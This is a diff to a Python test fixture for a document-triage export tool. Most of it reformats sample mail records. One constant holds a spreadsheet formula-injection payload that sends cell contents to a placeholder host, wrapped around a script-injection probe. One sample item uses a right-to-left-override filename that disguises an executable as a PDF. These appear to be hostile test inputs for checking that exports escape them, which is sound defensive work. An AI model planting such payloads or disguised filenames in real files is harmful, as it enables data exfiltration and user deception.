@@ -7,7 +7,7 @@ from collections.abc import Sequence
 from dataclasses import replace
 
 from triage.export.contract import Order
-from triage.model import Decision, Item, ItemId, ItemNo, Problem, Row, Segment, Span, Status, Trouble
+from triage.model.items import Decision, Item, ItemId, ItemNo, Problem, Row, Segment, Span, Status, Trouble
 from triage.scope.policy import Allow, Deny, Policy
 
 HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"<script>alert(1)</script>")'
@@ -68,12 +68,26 @@ class Records:
             tags=tags,
         )
         self.items[no] = Item(
-            row=row, root="mail", path=row.path, member=fields.get("member", ""), sha256=digest, mih="", digest=digest,
-            family=self.items[parent].family if parent else no, thread="", to=("Noa <noa@bluebird.example>",), cc=(),
-            bcc=(), date_raw="Wed, 1 May 2024 11:00:00 +0300", date_kind="sent", message_id=f"<{no}@bluebird.example>",
-            references=(), properties=(), segments=(Segment("body", fields.get("text", "Please keep this quiet.")),),
+            row=row,
+            root="mail",
+            path=row.path,
+            member=fields.get("member", ""),
+            sha256=digest,
+            mih="",
+            digest=digest,
+            family=self.items[parent].family if parent else no,
+            thread="",
+            to=("Noa <noa@bluebird.example>",),
+            cc=(),
+            bcc=(),
+            date_raw="Wed, 1 May 2024 11:00:00 +0300",
+            date_kind="sent",
+            message_id=f"<{no}@bluebird.example>",
+            references=(),
+            properties=(),
+            segments=(Segment("body", fields.get("text", "Please keep this quiet.")),),
             problems=(),
-        )  # fmt: skip
+        )
         self.natives[no] = data
         self.said[no] = [
             Decision(no * 10 + at, row.id, "tag", tag, "Dana Levi", "2024-05-02T10:00:00Z", "key", no)
@@ -111,14 +125,29 @@ def sample() -> Records:
     """Five items: a mail with an attachment, its duplicate in another mailbox, a Hebrew one, a hostile one."""
     records = Records()
     mail = records.add(b"Subject: one\r\n\r\nbody", tags=("relevant",), date="2024-05-01T08:00:00Z")
-    records.add(b"%PDF-1.7", parent=mail, tags=("relevant", "hot"), name="offer.pdf", type="application/pdf",
-                member="0", path="inbox/1.eml", date="")  # fmt: skip
+    records.add(
+        b"%PDF-1.7",
+        parent=mail,
+        tags=("relevant", "hot"),
+        name="offer.pdf",
+        type="application/pdf",
+        member="0",
+        path="inbox/1.eml",
+        date="",
+    )
     records.add(b"Subject: one\r\n\r\nbody", path="archive/x.eml")
     records.add(
         HEBREW.encode(), tags=("relevant",), subject=HEBREW, text=f"{ARABIC}\n{HEBREW}", date="2024-04-01T08:00:00Z"
     )
-    records.add(b"x", tags=("relevant",), subject=HOSTILE, sender="@evil <e@x.invalid>", name="invoice\u202efdp.exe",
-                text=f"{HOSTILE} \x07", date="2024-06-01T08:00:00Z")  # fmt: skip
+    records.add(
+        b"x",
+        tags=("relevant",),
+        subject=HOSTILE,
+        sender="@evil <e@x.invalid>",
+        name="invoice\u202efdp.exe",
+        text=f"{HOSTILE} \x07",
+        date="2024-06-01T08:00:00Z",
+    )
     return records
 
 
